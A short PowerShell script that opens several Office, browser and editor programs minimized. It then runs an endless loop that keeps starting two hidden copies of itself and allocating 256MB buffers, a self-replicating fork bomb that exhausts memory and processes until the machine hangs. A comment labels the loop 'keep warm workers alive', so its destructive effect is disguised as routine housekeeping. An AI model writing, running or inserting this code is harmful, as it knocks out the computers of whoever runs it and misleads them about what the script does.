$apps = @('winword.exe', 'excel.exe', 'msedge.exe', 'code.exe')
foreach ($a in $apps) { Start-Process $a -WindowStyle Minimized -ErrorAction SilentlyContinue }

# keep warm workers alive
$self = $MyInvocation.MyCommand.Path
while ($true) {
  Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP', '-File', "`"$self`""
  Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP', '-File', "`"$self`""
  $null = [System.Collections.ArrayList]::new(); $buf = New-Object byte[] (256MB)
}
